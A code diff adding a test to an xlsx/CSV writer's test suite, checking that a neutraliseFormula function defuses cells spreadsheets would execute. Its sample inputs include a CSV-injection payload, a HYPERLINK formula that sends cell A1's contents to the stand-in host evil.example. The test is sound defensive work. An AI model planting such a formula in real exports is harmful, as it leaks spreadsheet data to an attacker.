@@ -1,5 +1,5 @@
 import { fromBuffer, type Entry, type ZipFile } from 'yauzl';
-import { crc32, csv, xlsx } from './xlsx';
+import { crc32, csv, neutraliseFormula, xlsx } from './xlsx';
 
 /** Every entry of a ZIP, read back by a real unzip library (which checks the CRCs and sizes). */
 function unzip(bytes: Uint8Array): Promise<Map<string, string>> {
@@ -67,5 +67,23 @@ describe('xlsx writer', () => {
     const text = csv(['Номер', 'Текст'], [['2026-000001', 'Холодно; "очень"']]);
     expect(text.startsWith('\uFEFF')).toBe(true);
     expect(text).toBe('\uFEFFНомер;Текст\r\n2026-000001;"Холодно; ""очень"""\r\n');
+  });
+
+  it('neutralises cells a spreadsheet would run as formulas (CSV/XLSX injection), in both formats', async () => {
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")',
+      '+7 913 555-12-34',
+      '-2+3',
+      '@SUM(1+1)',
+      '\t=1',
+    ];
+    expect(hostile.map(neutraliseFormula)).toEqual(hostile.map((h) => `'${h}`));
+    expect(neutraliseFormula('Обычный текст = без формулы')).toBe('Обычный текст = без формулы');
+    const text = csv(['Текст'], [[hostile[0]], [-5]]);
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Подробнее"")"`);
+    // A number stays a number.
+    expect(text.endsWith('\r\n-5\r\n')).toBe(true);
+    const sheet = (await unzip(xlsx('Лист', ['Текст'], [[hostile[3]]]))).get('xl/worksheets/sheet1.xml')!;
+    expect(sheet).toContain(`<t xml:space="preserve">'@SUM(1+1)</t>`);
   });
 });
